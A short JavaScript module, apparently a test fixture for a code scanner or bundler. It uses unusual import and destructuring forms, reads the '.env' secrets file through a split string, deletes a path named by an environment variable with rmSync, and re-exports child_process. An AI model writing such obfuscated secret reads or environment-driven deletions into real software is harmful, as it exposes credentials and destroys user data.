import { readFileSync as r, default as d } from "node:fs";
import * as n from 'fs';
const { env: { A, ...e } } = process, [p] = [process];
let q; q = p; r(".e" + "nv"); n.rmSync(A); export * from "child_process";
